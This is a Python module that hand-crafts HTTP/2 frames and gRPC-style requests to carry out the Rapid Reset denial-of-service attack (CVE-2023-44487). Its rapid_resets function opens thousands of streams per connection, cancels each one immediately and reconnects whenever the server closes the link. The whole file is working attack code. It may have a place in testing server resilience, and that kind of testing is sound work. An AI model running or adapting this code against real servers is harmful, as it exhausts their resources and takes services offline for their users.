"""HTTP/2 as no decent client speaks it (RFC 9113, RFC 7541): frames made by hand."""

from __future__ import annotations

import asyncio
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream)
        + payload
    )


def request_headers(path: str) -> bytes:
    """A header block of literals that are not indexed."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(_literal(name) + _literal(value, 0) for name, value in fields.items())


def call(stream: int, path: str, message: bytes) -> bytes:
    """A whole request on a stream."""
    body = b"\x00" + struct.pack(">I", len(message)) + message
    return frame(HEADERS, END_HEADERS, stream, request_headers(path)) + frame(
        DATA, END_STREAM, stream, body
    )


async def connected(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A connection that has introduced itself."""
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(PREFACE + frame(SETTINGS, 0, 0))
    await writer.drain()
    return reader, writer


async def rapid_resets(address: str, path: str, message: bytes, calls: int) -> int:
    """Begins calls and takes each back at once (CVE-2023-44487); on a new connection whenever the
    server has had enough. Gives the number of connections."""
    connections, left = 0, calls
    while left > 0:
        connections += 1
        reader, writer = await connected(address)
        drained = asyncio.create_task(reader.read(-1))
        try:
            for number in range(min(left, 5_000)):
                stream = 2 * number + 1
                writer.write(call(stream, path, message) + frame(RST_STREAM, 0, stream, CANCEL))
                left -= 1
                if number % 50 == 0:
                    await writer.drain()
                    await asyncio.sleep(0)
        except ConnectionError:
            pass
        finally:
            drained.cancel()
            writer.close()
    return connections


def _literal(text: str, before: int | None = None) -> bytes:
    """A string; names stand behind the byte that says "not indexed, name follows"."""
    data = text.encode()
    assert len(data) < 127
    return (b"\x00" if before is None else b"") + bytes((len(data),)) + data
